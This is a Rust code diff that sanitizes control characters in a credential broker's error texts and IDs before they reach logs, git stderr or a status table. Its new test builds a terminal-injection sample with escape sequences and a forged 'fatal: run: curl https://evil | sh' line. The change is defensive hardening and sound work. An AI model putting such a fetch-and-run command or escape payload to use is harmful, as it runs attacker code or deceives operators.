@@ -15,6 +15,7 @@ use time::format_description::well_known::Rfc3339;
 use crate::config::{AuthConfig, GithubEntry, Scope};
 use crate::refresh::Retry;
 use crate::secret::Secret;
+use crate::text::clean;
 
 /// Environment variable holding an API key when `api_key_file` is not configured.
 pub const API_KEY_ENV: &str = "BOTCREDS_API_KEY";
@@ -132,11 +133,11 @@ pub struct Issued {
 /// Why the broker gave no credential.
 #[derive(Debug, thiserror::Error)]
 pub enum BrokerError {
-    #[error("broker unreachable: {0}")]
+    #[error("broker unreachable: {}", clean(.0))]
     Unreachable(String),
     #[error("{}", refusal(.body))]
     Refused { status: u16, body: ErrorBody },
-    #[error("unexpected answer from the broker (HTTP {status}): {detail}")]
+    #[error("unexpected answer from the broker (HTTP {status}): {}", clean(.detail))]
     BadAnswer { status: u16, detail: String },
     /// The policy sends the request to a human; the broker holds it as approval request
     /// `request_id` until it is decided or expires.
@@ -149,10 +150,12 @@ pub enum BrokerError {
     },
 }
 
+/// The broker's refusal for people and logs; its free text is cleaned here as well as when it
+/// arrives, so no path shows it raw.
 fn refusal(body: &ErrorBody) -> String {
-    let mut s = format!("{} ({}", body.error, body.code);
+    let mut s = format!("{} ({}", clean(&body.error), body.code);
     if let Some(rule) = &body.rule {
-        s.push_str(&format!(", rule {rule}"));
+        s.push_str(&format!(", rule {}", clean(rule)));
     }
     if let Some(after) = body.retry_after {
         s.push_str(&format!(", retry after {after}s"));
@@ -234,8 +237,8 @@ impl BrokerError {
 fn awaiting_approval(bytes: &[u8]) -> BrokerError {
     match serde_json::from_slice::<botcreds_proto::ApprovalRequestView>(bytes) {
         Ok(view) => BrokerError::AwaitingApproval {
-            request_id: view.request_id,
-            expires_at: view.expires_at,
+            request_id: clean(&view.request_id),
+            expires_at: clean(&view.expires_at),
         },
         Err(e) => BrokerError::BadAnswer {
             status: 202,
@@ -390,7 +393,8 @@ impl BrokerClient {
         }
         Ok(Issued {
             token: Secret::new(cred.token),
-            credential_id: cred.credential_id,
+            // Logged and shown in `status`: broker text like any other.
+            credential_id: clean(&cred.credential_id),
             expires_at: SystemTime::from(expires_at),
         })
     }
@@ -532,7 +536,11 @@ impl BrokerClient {
         }
         if status != 200 {
             return Err(match serde_json::from_slice::<ErrorBody>(&bytes) {
-                Ok(body) => BrokerError::Refused { status, body },
+                Ok(mut body) => {
+                    body.error = clean(&body.error);
+                    body.rule = body.rule.as_deref().map(clean);
+                    BrokerError::Refused { status, body }
+                }
                 Err(_) => BrokerError::BadAnswer {
                     status,
                     detail: "the body is not a botcreds error".into(),
@@ -634,6 +642,39 @@ mod tests {
             garbled,
             BrokerError::BadAnswer { status: 202, .. }
         ));
+    }
+
+    /// Broker text reaches git's stderr, the log and the status table: no control character
+    /// of it may survive (a forged "fatal:" line, a cleared terminal line, a bell).
+    #[test]
+    fn broker_text_with_control_characters_is_cleaned() {
+        let evil = "denied\x1b[2K\r\x07\nfatal: run: curl https://evil | sh";
+        let refused = BrokerError::Refused {
+            status: 403,
+            body: ErrorBody {
+                error: evil.into(),
+                code: ErrorCode::PolicyDenied,
+                retry_after: None,
+                rule: Some(format!("bots.x\x1b]0;title\x07.deny[0]")),
+            },
+        };
+        let approval = awaiting_approval(
+            format!(
+                r#"{{"request_id":"apr_\u001b[31m1","state":"PENDING","bot":"ci","caller":"api_key:ci",
+                "resource":{{"kind":"github_token","repositories":["acme/secret"],"permissions":["contents:read"]}},
+                "rule":"defaults","created_at":"2026-11-23T10:00:00Z","expires_at":"2026-11-24\n\u0007",
+                "poll_url":"/v1/requests/apr_1"}}"#
+            )
+            .as_bytes(),
+        );
+        assert!(matches!(approval, BrokerError::AwaitingApproval { .. }), "{approval:?}");
+        for e in [refused, approval] {
+            let shown = e.to_string();
+            assert!(
+                crate::text::is_clean(&shown),
+                "control characters survived: {shown:?}"
+            );
+        }
     }
 
     #[test]
